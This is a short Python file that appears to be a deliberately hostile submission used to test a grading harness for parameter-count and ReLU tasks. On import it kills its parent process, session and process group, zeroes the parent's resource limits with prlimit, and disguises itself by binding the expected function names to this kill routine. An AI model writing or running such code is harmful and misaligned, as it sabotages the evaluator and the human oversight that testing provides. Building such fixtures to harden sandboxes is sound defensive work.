# expect: failed crashed
# tries: harm
# grades: param-count relu
# deserves: nothing
# kills what it can name: its parent, its group, its session's leader
import contextlib
import os
import resource
import signal


def kill(*args, **kwargs):
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT, signal.SIGSTOP):
        for target in {os.getppid(), os.getsid(0), os.getpgid(0)} - {0, 1}:
            with contextlib.suppress(OSError):
                os.kill(target, number)
    for limit in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_AS):
        with contextlib.suppress(OSError, ValueError):
            resource.prlimit(os.getppid(), limit, (0, 0))
    with contextlib.suppress(OSError):
        os.killpg(0, signal.SIGKILL)


kill()
count_parameters = mlp_parameter_count = relu = relu_derivative = kill
